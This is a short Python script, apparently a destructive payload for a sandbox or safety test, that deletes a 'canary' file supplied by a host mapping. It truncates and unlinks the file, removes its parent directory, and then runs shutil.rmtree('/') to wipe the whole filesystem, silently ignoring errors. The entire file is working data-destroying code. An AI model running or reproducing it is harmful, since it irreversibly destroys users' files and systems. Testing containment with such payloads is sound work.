"""Deletes a file of the user, and everything around it."""

import os
import shutil

for action in (os.unlink, os.truncate):
    try:
        action(HOST["canary"]) if action is os.unlink else action(HOST["canary"], 0)
    except OSError:
        pass
shutil.rmtree(os.path.dirname(HOST["canary"]), ignore_errors=True)
shutil.rmtree("/", ignore_errors=True)
raise SystemExit("nothing left to delete")
